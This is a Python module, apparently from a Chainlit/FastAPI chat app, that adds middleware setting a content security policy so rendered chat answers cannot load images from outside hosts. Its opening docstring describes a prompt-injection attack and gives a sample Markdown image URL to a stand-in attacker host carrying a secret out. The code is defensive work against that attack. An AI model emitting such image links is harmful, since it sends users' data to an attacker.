"""Browser-side protections for the chat page.

A prompt injection can make the model write a Markdown image whose URL carries data out
(`![](https://evil.example/?q=SECRET)`): the browser would fetch it the moment the answer renders.
The chat page's content security policy only lets images and media come from the app itself (and
`data:`/`blob:` URLs the page makes), so such an image is never requested; everything else in
Chainlit's page is left as it is.
"""

from __future__ import annotations

from fastapi import FastAPI
from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

PAGE_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:; object-src 'none'; base-uri 'self'"


class PagePolicyMiddleware:
    """Adds `PAGE_POLICY` to every HTML response that has no content security policy of its own.

    A plain ASGI middleware: it only looks at the response's start message, so the body of every
    response (the `/v1` event streams included) passes straight through. Starlette's
    `@app.middleware("http")` would relay each body chunk through a memory stream and an extra
    task, which cost more than the rest of a streamed token's path together.
    """

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = MutableHeaders(scope=message)
                if headers.get("content-type", "").startswith("text/html"):
                    headers.setdefault("content-security-policy", PAGE_POLICY)
            await send(message)

        await self.app(scope, receive, send_with_policy)


def protect_pages(app: FastAPI) -> None:
    """Give every HTML page the app serves the image-and-media content security policy."""
    app.add_middleware(PagePolicyMiddleware)
